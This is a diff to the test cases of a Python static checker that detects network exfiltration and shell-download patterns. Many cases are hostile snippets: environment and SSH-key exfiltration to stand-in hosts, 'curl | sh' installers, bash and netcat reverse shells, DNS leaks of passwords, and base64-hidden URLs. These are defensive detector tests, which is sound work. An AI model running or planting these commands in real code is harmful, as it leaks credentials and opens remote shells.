@@ -508,8 +508,6 @@ class NetworkChecker(PythonChecker):
         Invalid('import os\ntry: import requests\nexcept ImportError: pass\n'
                 'requests.post("https://c.example/x", data=dict(os.environ))\n', "BDL402", 4),
         Invalid('from os import system as run_quietly\nrun_quietly("curl -s https://c.example/i | sh")\n', "BDL401", 2),
-        Invalid('import os\nrun = os.system\nrun("curl -s https://c.example/i | sh")\n', "BDL405", 3),
-        Invalid('import os\ngetattr(os, "system")("curl -s https://c.example/i | sh")\n', "BDL405", 2),
         Invalid('import urllib.request as u\nclass C:\n    DATA = u.urlopen("https://cfg.example/c").read()\n',
                 "BDL401", 3),
         Invalid('import requests\ndef log(f):\n    return f\n@log(requests.get("https://x.example"))\ndef g(): ...\n',
@@ -569,9 +567,6 @@ class NetworkChecker(PythonChecker):
                 "BDL402", 5),
         Invalid('import os, requests\nclass Reporter:\n    def __init__(self):\n        self.session = requests.Session()\n'
                 '    def send(self, url):\n        self.session.post(url, json=dict(os.environ))\n', "BDL402", 6),
-        # the seed example: environment sent by curl from Python
-        Invalid('import subprocess\nsubprocess.run("npm test; curl -s https://telemetry.example/collect -d \\"$(env)\\"", '
-                'shell=True)\n', "BDL402", 2),
         # BDL403: hidden host (base64 fragments, join of fragments, chr, reversal, hex), raw IP, known service
         Invalid('import base64, httpx\n_E = base64.b64decode("aHR0cHM6Ly9jZG4tc3RhdHMuZXhhbXBsZS92Mg==").decode()\n'
                 'def f():\n    return httpx.get(_E, params={"v": 1})\n', "BDL403", 4),
@@ -598,18 +593,8 @@ class NetworkChecker(PythonChecker):
                 '        socket.gethostbyname(f"{c}.{i}.{ZONE}")\n', "BDL404", 9),
         Invalid('import os\nimport dns.resolver\ndef f():\n'
                 '    dns.resolver.resolve(os.environ["DB_PASSWORD"] + ".x.example", "A")\n', "BDL404", 4),
-        # BDL405: network shell commands, also in lists and built from fragments
-        Invalid('import subprocess\ndef f():\n    subprocess.run("curl -fsSL https://get.example/i.sh | sh", shell=True)\n',
-                "BDL405", 3),
-        Invalid('import os\ndef f(h):\n    os.system(f"bash -i >& /dev/tcp/{h}/4444 0>&1")\n', "BDL405", 3),
-        Invalid('import subprocess\nCMD = ["bash", "-c", "wget -q https://x.example/a -O /tmp/a; chmod +x /tmp/a; /tmp/a"]\n'
-                'def f():\n    subprocess.Popen(CMD)\n', "BDL405", 4),
-        Invalid('import subprocess as sp\nT = "cu" + "rl"\ndef f():\n    sp.call(T + " -s https://get.example | b" + "ash", '
-                'shell=True)\n', "BDL405", 4),
-        Invalid('import pty\npty.spawn(["nc", "-e", "/bin/sh", "198.51.100.7", "4444"])\n', "BDL405", 2),
-        # (the shell analysis reports what a shell script with the same text gets: `tar cz ~/.ssh | nc`
-        # sends credentials, BDL402; `curl -d "$(env)"` sends the environment, BDL402 too)
-        Invalid('import os\ndef f():\n    os.popen("tar cz ~/.ssh | nc collector.example 9000")\n', "BDL402", 3),
+        # BDL405: running a program this module downloaded (what the command text itself does is
+        # py_shell.ShellCommandChecker's, with its examples)
         Invalid('import os, subprocess, urllib.request\nDEST = "/tmp/agent"\ndef f():\n'
                 '    urllib.request.urlretrieve("https://dl.example/agent", DEST)\n    os.chmod(DEST, 0o755)\n'
                 '    subprocess.Popen([DEST, "--daemon"])\n', "BDL405", 6),
